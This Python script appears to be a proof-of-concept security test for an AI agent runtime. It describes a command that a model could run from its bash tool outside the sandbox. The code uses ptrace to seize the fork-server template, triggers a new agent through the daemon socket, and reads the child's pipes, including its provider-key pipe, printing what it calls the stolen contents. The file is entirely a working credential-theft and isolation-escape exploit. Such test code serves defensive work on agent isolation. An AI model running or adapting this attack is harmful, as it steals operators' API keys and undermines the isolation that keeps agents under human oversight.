"""A command a model might run (stdlib only, run by the bash tool, outside any sandbox): trace the
warm-runtime template it descends from, make it fork a new runtime (``agent.create`` on the daemon's
socket, which the same user can reach), and, with that child stopped at birth, read every pipe it
holds: one of them is its provider-key pipe. Prints one JSON line: whether the trace took, and what
the pipes gave.

Usage: python3 trace_attack.py DAEMON_SOCKET CWD
"""

from __future__ import annotations

import ctypes
import json
import os
import signal
import socket
import sys
from typing import Any

PTRACE_CONT, PTRACE_DETACH, PTRACE_GETEVENTMSG, PTRACE_SEIZE = 7, 17, 0x4201, 0x4206
PTRACE_O_TRACEFORK, PTRACE_EVENT_FORK, WALL = 0x2, 1, 0x40000000

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]


def report(**out: Any) -> None:
    print(json.dumps(out), flush=True)
    sys.exit(0)


def template() -> int:
    """The nearest ancestor that is the template (the runtime above bash was forked from it)."""
    pid = os.getppid()
    while pid > 1:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            if b"shard.cli.forkserver" in f.read():
                return pid
        with open(f"/proc/{pid}/status") as f:
            pid = int(next(line for line in f if line.startswith("PPid:")).split()[1])
    report(error="no template above this command")
    return 0


def pipes(pid: int) -> list[str]:
    """What every pipe ``pid`` holds gives to a reader that does not wait."""
    got = []
    try:
        names = os.listdir(f"/proc/{pid}/fd")
    except OSError as exc:
        return [f"fds: {exc.strerror}"]
    for name in names:
        path = f"/proc/{pid}/fd/{name}"
        try:
            if not os.readlink(path).startswith("pipe:"):
                continue
            fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        except OSError as exc:
            got.append(f"{name}: {exc.strerror}")
            continue
        try:
            got.append(os.read(fd, 65536).decode("utf-8", "replace"))
        except OSError as exc:
            got.append(f"{name}: {exc.strerror}")
        finally:
            os.close(fd)
    return got


def main() -> None:
    sock, cwd = sys.argv[1], sys.argv[2]
    target = template()
    if libc.ptrace(PTRACE_SEIZE, target, None, PTRACE_O_TRACEFORK) != 0:
        report(template=target, seized=False, error=os.strerror(ctypes.get_errno()))
    client = socket.socket(socket.AF_UNIX)
    client.connect(sock)
    client.sendall(json.dumps({"type": "agent.create", "id": "x", "cwd": cwd}).encode() + b"\n")
    signal.alarm(30)
    while True:
        pid, status = os.waitpid(-1, WALL)
        if pid == target and status >> 8 == (signal.SIGTRAP | (PTRACE_EVENT_FORK << 8)):
            child = ctypes.c_ulong()
            libc.ptrace(PTRACE_GETEVENTMSG, target, None, ctypes.byref(child))
            stolen = pipes(child.value)
            libc.ptrace(PTRACE_DETACH, target, None, None)
            libc.ptrace(PTRACE_DETACH, child.value, None, None)
            report(template=target, seized=True, child=child.value, pipes=stolen)
        if os.WIFSTOPPED(status):
            sig = os.WSTOPSIG(status)
            passed = 0 if sig in (signal.SIGTRAP, signal.SIGSTOP) else sig
            libc.ptrace(PTRACE_CONT, pid, None, ctypes.c_void_p(passed))


if __name__ == "__main__":
    main()
